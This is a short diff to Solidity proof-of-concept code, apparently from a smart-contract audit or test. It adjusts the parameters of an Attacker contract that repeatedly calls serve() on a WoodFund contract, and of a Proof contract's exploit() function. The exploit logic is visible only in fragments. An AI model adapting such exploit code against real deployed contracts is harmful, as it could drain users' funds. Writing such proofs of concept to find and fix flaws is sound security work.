@@ -22,8 +22,8 @@ contract Coin is ERC20 {
 /// Has many shares, and serves somebody else in small portions before it leaves.
 contract Attacker {
     function help(WoodFund fund, address account, uint256 times) external {
-        for (uint256 i = 0; i < times && i < 600; i++) {
-            uint256 portion = fund.totalSupply() / 10_000 - 1;
+        for (uint256 i = 0; i < times && i < 40; i++) {
+            uint256 portion = fund.totalSupply() / 1_000 - 1;
             uint256 left = fund.askedFor(account);
             if (left == 0) break;
             fund.serve(account, portion < left ? portion : left);
@@ -110,7 +110,7 @@ contract Proof {
     }
 
     function exploit() public {
-        partner.help(fund, ANNA, 400);
+        partner.help(fund, ANNA, 40);
         partner.leave(fund);
     }
 
